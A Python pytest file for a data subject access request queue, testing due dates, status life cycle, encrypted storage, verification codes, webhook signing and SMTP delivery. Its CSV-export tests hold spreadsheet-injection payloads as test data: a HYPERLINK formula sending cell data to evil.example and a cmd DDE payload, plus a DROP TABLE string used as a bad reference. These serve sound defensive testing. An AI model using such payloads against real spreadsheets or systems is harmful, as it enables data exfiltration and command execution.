"""The DSAR queue on real SQLite and a real PostgreSQL: submission, life cycle, verification, sinks."""

from __future__ import annotations

import csv
import email
import hashlib
import hmac
import io
import json
import os
import re
import socket
import stat
import threading
from datetime import UTC, date, datetime, timedelta
from email import policy
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from pathlib import Path
from typing import ClassVar

import pytest
from sqlalchemy import text

from assistant import (
    InvalidTransitionError,
    RequestDraft,
    RequestError,
    UnknownRequestError,
    VerificationError,
)
from assistant.requests import STATUSES, TRANSITIONS, RequestQueue, add_months, due_date
from assistant.requests.export import spreadsheet_safe
from assistant.requests.outbox import OutboxWorker
from assistant.requests.sinks import SIGNATURE_HEADER, TIMESTAMP_HEADER

NOW = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)


def draft(**changes) -> RequestDraft:
    values = {"rights": ["erasure"], "name": "Jo Bloggs", "email": "jo@example.com"}
    values.update(changes)
    return RequestDraft(**values).refresh_missing()


def mails(queue: RequestQueue) -> list[email.message.EmailMessage]:
    """Every mail the queue sent: the outbox worker delivers what is due, then its folder is read."""
    worker = OutboxWorker(queue.storage)
    worker.deliver_due()
    return worker.folder.messages()


def code_and_token(message) -> tuple[str, str]:
    body = message.get_content()
    code = re.search(r"^\s+(\d{6})\s*$", body, re.MULTILINE).group(1)
    token = re.search(r"code=([A-Za-z0-9_-]+)", body).group(1)
    return code, token


def snapshot(queue: RequestQueue) -> list[tuple]:
    """Everything about every request and its trail, to show an operation changed nothing."""
    return [(r, tuple(queue.events(r.reference))) for r in queue.list()]


# -- due dates ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("received", "due"),
    [
        (date(2026, 1, 15), date(2026, 2, 15)),
        (date(2026, 1, 31), date(2026, 2, 28)),  # clamped to the shorter month
        (date(2028, 1, 31), date(2028, 2, 29)),  # leap year
        (date(2028, 1, 29), date(2028, 2, 29)),
        (date(2100, 1, 31), date(2100, 2, 28)),  # 2100 is not a leap year
        (date(2000, 1, 30), date(2000, 2, 29)),  # 2000 is
        (date(2026, 3, 31), date(2026, 4, 30)),
        (date(2026, 8, 31), date(2026, 9, 30)),
        (date(2026, 12, 31), date(2027, 1, 31)),  # across the year end
        (date(2026, 12, 15), date(2027, 1, 15)),
        (date(2028, 2, 29), date(2028, 3, 29)),
    ],
)
def test_due_one_calendar_month_after_receipt(received, due):
    assert due_date(received) == due
    assert due_date(datetime.combine(received, datetime.min.time(), UTC)) == due


def test_extension_counts_from_receipt_not_from_the_clamped_date():
    assert due_date(date(2026, 1, 31), extension_months=2) == date(2026, 4, 30)
    assert add_months(date(2026, 11, 30), 3) == date(2027, 2, 28)
    assert add_months(date(2027, 11, 30), 3) == date(2028, 2, 29)


# -- submission ---------------------------------------------------------------------------------
def test_submit_puts_one_pending_request_with_reference_due_date_and_trail(queue):
    submission = queue.submit(draft(phone="+44 7700 900123"), idempotency_key="k1", channel="web", now=NOW)
    request = submission.request
    assert submission.created
    assert re.fullmatch(r"DSAR-2026-\d{6}", request.reference)
    assert request.status == "pending_verification"
    assert request.due_at == date(2026, 4, 10)
    assert request.email == "jo@example.com" and request.name == "Jo Bloggs"
    assert request.phone == "+44 7700 900123"
    assert request.received_at == NOW
    assert [e.kind for e in queue.events(request.reference)] == ["submitted"]
    assert queue.get(request.reference) == request


def test_references_count_up_within_a_year_and_restart_the_next(queue):
    first = queue.submit(draft(), "a", now=NOW).request.reference
    second = queue.submit(draft(), "b", now=NOW).request.reference
    next_year = queue.submit(draft(), "c", now=NOW.replace(year=2027)).request.reference
    assert (first, second, next_year) == ("DSAR-2026-000001", "DSAR-2026-000002", "DSAR-2027-000001")


def test_the_same_idempotency_key_never_makes_a_second_request(queue):
    first = queue.submit(draft(), "conversation:x:1", now=NOW)
    again = queue.submit(draft(email="other@example.com"), "conversation:x:1", now=NOW)
    assert first.created and not again.created
    assert again.request == first.request
    assert queue.count() == 1
    assert len(mails(queue)) == 1


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"email": None}, "e-mail address"),
        ({"email": "jo@"}, "is not an e-mail address"),
        ({"email": "jo example.com"}, "is not an e-mail address"),
        ({"email": "jo@@example.com"}, "is not an e-mail address"),
        ({"rights": ["delete_everything"]}, "unknown right 'delete_everything'"),
        ({"rights": []}, "names no right"),
        ({"name": None}, "missing: name"),
        ({"on_behalf_of": "neighbour"}, "on_behalf_of must be one of"),
        ({"on_behalf_of": "parent_guardian"}, "missing: subject_name"),
    ],
)
def test_bad_drafts_are_refused_with_a_clear_message_and_change_nothing(queue, changes, message):
    before = snapshot(queue)
    with pytest.raises(RequestError, match=re.escape(message)):
        queue.submit(draft(**changes), "bad", now=NOW)
    assert snapshot(queue) == before
    assert queue.count() == 0
    assert mails(queue) == []


def test_unknown_channel_and_missing_key_are_refused(queue):
    with pytest.raises(RequestError, match="unknown channel"):
        queue.submit(draft(), "k", channel="fax")
    with pytest.raises(RequestError, match="idempotency key"):
        queue.submit(draft(), "")
    assert queue.count() == 0


def test_unknown_and_malformed_references(queue):
    with pytest.raises(UnknownRequestError, match="no request has the reference DSAR-2026-999999"):
        queue.get("DSAR-2026-999999")
    with pytest.raises(UnknownRequestError, match="not a reference like DSAR-2026-000123"):
        queue.get("42; DROP TABLE rights_requests")


# -- the life cycle -----------------------------------------------------------------------------
ALL_PAIRS = list(product(STATUSES, STATUSES))


def walk_to(queue: RequestQueue, status: str, key: str) -> str:
    """A request brought to ``status`` through allowed transitions only."""
    reference = queue.submit(draft(), key, now=NOW).request.reference
    path = {
        "pending_verification": [],
        "verified": ["verified"],
        "in_progress": ["verified", "in_progress"],
        "completed": ["verified", "in_progress", "completed"],
        "rejected": ["rejected"],
        "withdrawn": ["withdrawn"],
    }[status]
    for step in path:
        queue.transition(reference, step, actor="team@example.com", now=NOW)
    return reference


@pytest.mark.parametrize(("current", "new"), ALL_PAIRS, ids=[f"{a}->{b}" for a, b in ALL_PAIRS])
def test_every_transition_is_allowed_or_refused_as_the_life_cycle_says(queue, current, new):
    reference = walk_to(queue, current, f"walk-{current}-{new}")
    if new in TRANSITIONS[current]:
        moved = queue.transition(reference, new, actor="team@example.com", note="done", now=NOW)
        assert moved.status == new
        last = queue.events(reference)[-1]
        assert (last.kind, last.detail["from"], last.detail["to"]) == ("status_changed", current, new)
    else:
        before = snapshot(queue)
        with pytest.raises(InvalidTransitionError, match=f"cannot become {new}"):
            queue.transition(reference, new, actor="team@example.com", now=NOW)
        assert snapshot(queue) == before


def test_the_life_cycle_is_the_one_the_issue_describes():
    assert TRANSITIONS["pending_verification"] == {"verified", "rejected", "withdrawn"}
    assert TRANSITIONS["verified"] == {"in_progress", "rejected", "withdrawn"}
    assert TRANSITIONS["in_progress"] == {"completed", "rejected", "withdrawn"}
    assert all(not TRANSITIONS[s] for s in ("completed", "rejected", "withdrawn"))


def test_unknown_status_is_refused(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    with pytest.raises(InvalidTransitionError, match="unknown status 'done'"):
        queue.transition(reference, "done", actor="team")


def test_assign_extend_and_their_trail(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    assert queue.assign(reference, "ana@numecent.com", actor="lead").assignee == "ana@numecent.com"
    extended = queue.extend(reference, "many systems to search", actor="ana", months=1, now=NOW)
    assert extended.due_at == date(2026, 5, 10)
    assert extended.extension_reason == "many systems to search"
    assert queue.extend(reference, "still complex", actor="ana", months=1, now=NOW).due_at == date(
        2026, 6, 10
    )
    before = snapshot(queue)
    with pytest.raises(RequestError, match="already extended by 2 month"):
        queue.extend(reference, "more", actor="ana", months=1)
    with pytest.raises(RequestError, match="needs a reason"):
        queue.extend(reference, "   ", actor="ana")
    with pytest.raises(RequestError, match="actor is required"):
        queue.assign(reference, "ana", actor="")
    assert snapshot(queue) == before
    kinds = [e.kind for e in queue.events(reference)]
    assert kinds == ["submitted", "assigned", "extended", "extended"]


def test_closed_requests_cannot_be_assigned_or_extended(queue):
    reference = walk_to(queue, "completed", "k")
    with pytest.raises(RequestError, match="only open requests"):
        queue.assign(reference, "ana", actor="lead")
    with pytest.raises(RequestError, match="only open requests"):
        queue.extend(reference, "reason", actor="lead")


def test_list_filters_overdue_and_export(queue):
    old = queue.submit(draft(email="old@example.com"), "old", now=NOW - timedelta(days=60)).request
    new = queue.submit(draft(email="new@example.com", rights=["access", "erasure"]), "new", now=NOW).request
    done = walk_to(queue, "completed", "done")
    today = NOW.date()
    assert [r.reference for r in queue.list(overdue=True, today=today)] == [old.reference]
    assert {r.reference for r in queue.list(status="pending_verification")} == {old.reference, new.reference}
    assert [r.reference for r in queue.list(status=["completed"])] == [done]
    assert [r.reference for r in queue.list(due_before=date(2026, 3, 1))] == [old.reference]
    with pytest.raises(RequestError, match="unknown status"):
        queue.list(status="lost")
    exported = json.loads(queue.export("json", status="pending_verification"))
    assert {row["email"] for row in exported} == {"old@example.com", "new@example.com"}
    assert next(row for row in exported if row["email"] == "old@example.com")["overdue"] is True
    csv_text = queue.export("csv")
    assert csv_text.splitlines()[0].startswith("reference,rights,status")
    assert "access erasure" in csv_text and len(csv_text.strip().splitlines()) == 4
    with pytest.raises(RequestError, match="use csv or json"):
        queue.export("xml")


# What a visitor could type to make a spreadsheet run a formula when the team opens the export.
HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Jo")',
    "data_concerned": "  +cmd|' /C calc'!A0",
    "categories": ["-2+3", "purchases"],
}


def formula_cells(csv_text: str) -> list[str]:
    """Cells of ``csv_text`` that a spreadsheet would evaluate as a formula."""
    rows = list(csv.reader(io.StringIO(csv_text)))
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(("\t", "\r")) or cell.lstrip().startswith(("=", "+", "-", "@"))
    ]


def test_csv_export_neutralises_cells_a_spreadsheet_would_evaluate(queue):
    reference = queue.submit(draft(**HOSTILE), "hostile", now=NOW).request.reference
    queue.assign(reference, "@ana", actor="lead")
    queue.extend(reference, "=1+1 systems to search", actor="lead", months=1)
    csv_text = queue.export("csv")
    assert formula_cells(csv_text) == []
    (row,) = csv.DictReader(io.StringIO(csv_text))
    assert row["name"] == "'" + HOSTILE["name"]  # kept whole, read as text
    assert row["data_concerned"] == "'" + HOSTILE["data_concerned"]
    assert row["categories"] == "'-2+3; purchases"
    assert row["assignee"] == "'@ana"
    assert row["extension_reason"] == "'=1+1 systems to search"
    assert row["email"] == "jo@example.com" and row["extension_months"] == "1"
    (exported,) = json.loads(queue.export("json"))  # JSON is data, not a sheet: unchanged
    assert exported["name"] == HOSTILE["name"]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("   =1", "'   =1"),
        ("\n@x", "'\n@x"),
        ("Jo = Bloggs", "Jo = Bloggs"),
        ("jo@example.com", "jo@example.com"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_claim_next_takes_verified_requests_soonest_due_first(queue):
    later = walk_to(queue, "verified", "later")
    first = queue.submit(draft(), "first", now=NOW - timedelta(days=5)).request.reference
    queue.transition(first, "verified", actor="team")
    pending = queue.submit(draft(), "pending", now=NOW - timedelta(days=9)).request.reference
    claimed = queue.claim_next("worker-1")
    assert (claimed.reference, claimed.status, claimed.assignee) == (first, "in_progress", "worker-1")
    assert queue.claim_next("worker-2").reference == later
    assert queue.claim_next("worker-3") is None
    assert queue.get(pending).status == "pending_verification"


# -- privacy at rest ----------------------------------------------------------------------------
def test_identity_is_encrypted_at_rest_and_the_key_file_is_private(queue):
    queue.submit(
        draft(name="Siobhan Quinn", email="siobhan@example.ie", phone="+353 1 555 0199"), "k", now=NOW
    )
    with queue.engine.connect() as connection:
        dump = " ".join(
            str(row)
            for table in ("rights_requests", "outbox", "audit_events", "verification_codes")
            for row in connection.execute(text(f"SELECT * FROM {table}"))
        )
    for secret in ("Siobhan", "siobhan@example.ie", "555 0199"):
        assert secret not in dump
    key_file = queue.settings.data_dir / "encryption.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    # A second queue on the same data dir reads the same key and so the same requests.
    other = RequestQueue(queue.settings, queue.prompts)
    assert other.list()[0].email == "siobhan@example.ie"
    other.close()


def test_the_audit_trail_refuses_updates_and_deletes_in_the_database(queue):
    queue.submit(draft(), "k", now=NOW)
    for statement in ("UPDATE audit_events SET actor = 'someone else'", "DELETE FROM audit_events"):
        with pytest.raises(Exception, match="append-only"), queue.engine.begin() as connection:
            connection.execute(text(statement))
    assert len(queue.events(queue.list()[0].reference)) == 1


# -- verification -------------------------------------------------------------------------------
def test_verification_mail_goes_to_the_outbox_with_code_and_link(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    [message] = mails(queue)
    assert message["To"] == "jo@example.com"
    assert reference in message["Subject"]
    code, token = code_and_token(message)
    assert f"http://127.0.0.1:8000/verify?ref={reference}&code={token}" in message.get_content()
    [path] = OutboxWorker(queue.storage).folder.paths()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert path.name.endswith(".eml.enc") and b"jo@example.com" not in path.read_bytes()
    assert queue.verify(reference, code, now=NOW + timedelta(minutes=5)).status == "verified"
    assert [e.kind for e in queue.events(reference)] == ["submitted", "status_changed"]


def test_the_link_token_verifies_too(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    _, token = code_and_token(mails(queue)[0])
    assert queue.verify(reference, token, now=NOW).status == "verified"


def test_wrong_expired_replayed_and_malformed_codes_change_nothing(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    code, _ = code_and_token(mails(queue)[0])
    wrong = f"{(int(code) + 1) % 10**6:06d}"
    before = snapshot(queue)
    with pytest.raises(VerificationError, match="not right; 4 tries left"):
        queue.verify(reference, wrong, now=NOW)
    with pytest.raises(VerificationError, match="6 digits"):
        queue.verify(reference, "12ab", now=NOW)
    with pytest.raises(VerificationError, match="expired"):
        queue.verify(reference, code, now=NOW + timedelta(minutes=61))
    assert snapshot(queue) == before
    queue.verify(reference, code, now=NOW)
    after = snapshot(queue)
    with pytest.raises(VerificationError, match="verified; there is nothing to verify"):
        queue.verify(reference, code, now=NOW)  # replayed
    assert snapshot(queue) == after


def test_too_many_wrong_codes_lock_the_code_until_a_new_one_is_sent(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    code, _ = code_and_token(mails(queue)[0])
    wrong = f"{(int(code) + 1) % 10**6:06d}"
    for _ in range(5):
        with pytest.raises(VerificationError):
            queue.verify(reference, wrong, now=NOW)
    with pytest.raises(VerificationError, match="too many wrong codes"):
        queue.verify(reference, code, now=NOW)  # even the right code: the limit holds
    assert queue.get(reference).status == "pending_verification"
    queue.resend_verification(reference, now=NOW + timedelta(minutes=1))
    new_code, _ = code_and_token(mails(queue)[-1])
    if new_code != code:  # the old code stops working when a new one is sent
        with pytest.raises(VerificationError):
            queue.verify(reference, code, now=NOW + timedelta(minutes=2))
    assert queue.verify(reference, new_code, now=NOW + timedelta(minutes=2)).status == "verified"


def test_resending_is_rate_limited(queue):
    reference = queue.submit(draft(), "k", now=NOW).request.reference  # the first mail counts
    queue.resend_verification(reference, now=NOW + timedelta(minutes=1))
    queue.resend_verification(reference, now=NOW + timedelta(minutes=2))
    with pytest.raises(VerificationError, match="too many codes sent"):
        queue.resend_verification(reference, now=NOW + timedelta(minutes=3))
    queue.resend_verification(reference, now=NOW + timedelta(minutes=62))
    assert len(mails(queue)) == 4


# -- listeners and the webhook outbox -----------------------------------------------------------
def test_listeners_hear_events_after_commit_and_a_failing_one_breaks_nothing(queue):
    heard = []

    def broken(event):
        raise RuntimeError("subscriber bug")

    queue.subscribe(broken)
    unsubscribe = queue.subscribe(
        lambda e: heard.append((e.kind, e.reference, queue.get(e.reference).status))
    )
    reference = queue.submit(draft(), "k", now=NOW).request.reference
    queue.transition(reference, "verified", actor="team")
    with pytest.raises(InvalidTransitionError):
        queue.transition(reference, "completed", actor="team")  # refused: nobody hears of it
    unsubscribe()
    queue.transition(reference, "in_progress", actor="team")
    assert heard == [
        ("submitted", reference, "pending_verification"),
        ("status_changed", reference, "verified"),
    ]


class _Endpoint(BaseHTTPRequestHandler):
    """A webhook receiver that is down (503) until told otherwise."""

    up = False
    received: ClassVar[list[tuple[dict, bytes]]] = []

    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if not type(self).up:
            self.send_response(503)
            self.end_headers()
            return
        type(self).received.append((dict(self.headers), body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args):
        pass


def test_webhook_events_are_signed_and_survive_a_down_endpoint(queue_settings, tmp_path):
    from assistant.prompts import load_prompts

    server = ThreadingHTTPServer(("127.0.0.1", 0), _Endpoint)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Endpoint.up, _Endpoint.received = False, []
    settings = queue_settings.model_copy(
        update={"webhook_url": f"http://127.0.0.1:{server.server_port}/hook", "webhook_secret": "s3cret"}
    )
    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
    try:
        reference = queue.submit(draft(), "k", now=NOW).request.reference
        queue.transition(reference, "verified", actor="team", now=NOW)
        worker = OutboxWorker(queue.storage)
        assert worker.deliver_due(NOW) == 1  # the verification mail went out
        assert worker.pending() == 2  # both events wait
        assert worker.deliver_due(NOW + timedelta(seconds=5)) == 0  # not due yet: back-off
        _Endpoint.up = True
        assert worker.deliver_due(NOW + timedelta(hours=2)) == 2
        assert worker.pending() == 0
        assert worker.deliver_due(NOW + timedelta(hours=3)) == 0  # nothing is sent twice
        events = [json.loads(body) for _, body in _Endpoint.received]
        assert [(e["event"], e["reference"]) for e in events] == [
            ("submitted", reference),
            ("status_changed", reference),
        ]
        assert "jo@example.com" not in json.dumps(events)
        for headers, body in _Endpoint.received:
            expected = hmac.new(b"s3cret", headers[TIMESTAMP_HEADER].encode() + b"." + body, hashlib.sha256)
            assert headers[SIGNATURE_HEADER] == f"sha256={expected.hexdigest()}"
    finally:
        queue.close()
        server.shutdown()


# -- real SMTP ----------------------------------------------------------------------------------
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_verification_mail_through_a_real_smtp_server(queue_settings):
    from aiosmtpd.controller import Controller

    from assistant.prompts import load_prompts

    class Inbox:
        def __init__(self) -> None:
            self.messages: list[tuple[str, list[str], bytes]] = []

        async def handle_DATA(self, server, session, envelope):
            self.messages.append((envelope.mail_from, envelope.rcpt_tos, envelope.content))
            return "250 OK"

    inbox = Inbox()
    port = _free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    settings = queue_settings.model_copy(update={"smtp_url": f"smtp://127.0.0.1:{port}"})
    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
    try:
        reference = queue.submit(draft(email="Mixed.Case@Example.com"), "k").request.reference
        assert OutboxWorker(queue.storage).deliver_due() == 1
        [(_sender, recipients, content)] = inbox.messages
        assert recipients == ["mixed.case@example.com"]
        message = email.message_from_bytes(content, policy=policy.default)
        code, _ = code_and_token(message)
        assert queue.verify(reference, code).status == "verified"
        assert not (settings.data_dir / "outbox").exists()
    finally:
        queue.close()
        controller.stop()


def test_mail_to_a_down_smtp_server_waits_in_the_outbox(queue_settings):
    from assistant.prompts import load_prompts

    settings = queue_settings.model_copy(update={"smtp_url": f"smtp://127.0.0.1:{_free_port()}"})
    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
    try:
        submission = queue.submit(draft(), "k")
        assert submission.created  # the request is safe even though the mail could not go yet
        worker = OutboxWorker(queue.storage)
        assert worker.deliver_due() == 0
        assert worker.pending() == 1
    finally:
        queue.close()


def test_a_bad_encryption_key_is_a_clear_configuration_error(queue_settings):
    from assistant import ConfigurationError
    from assistant.prompts import load_prompts

    settings = queue_settings.model_copy(update={"encryption_key": "not-a-key"})
    with pytest.raises(ConfigurationError, match="not a Fernet key"):
        RequestQueue(settings, load_prompts(settings.prompts_dir))


def test_migrations_run_once_and_reopen_cleanly(queue):
    from alembic.config import Config
    from alembic.script import ScriptDirectory

    from assistant.requests.database import MIGRATIONS

    config = Config()
    config.set_main_option("script_location", str(MIGRATIONS))
    head = ScriptDirectory.from_config(config).get_current_head()
    queue.submit(draft(), "k", now=NOW)
    again = RequestQueue(queue.settings, queue.prompts)
    assert again.count() == 1
    from alembic.script import ScriptDirectory

    from assistant.requests.database import MIGRATIONS

    head = ScriptDirectory(str(MIGRATIONS)).get_current_head()
    with again.engine.connect() as connection:
        assert connection.execute(text("SELECT version_num FROM alembic_version")).scalar_one() == head
    again.close()


def test_sqlite_database_lives_in_the_data_dir_by_default(tmp_path):
    from assistant.prompts import load_prompts
    from assistant.settings import get_settings

    settings = get_settings().model_copy(update={"data_dir": tmp_path / "d", "database_url": None})
    queue = RequestQueue(settings, load_prompts(settings.prompts_dir))
    queue.close()
    assert (tmp_path / "d" / "requests.db").exists()
    assert os.access(tmp_path / "d" / "encryption.key", os.R_OK)
    assert Path(tmp_path / "d" / "encryption.key").stat().st_mode & 0o077 == 0
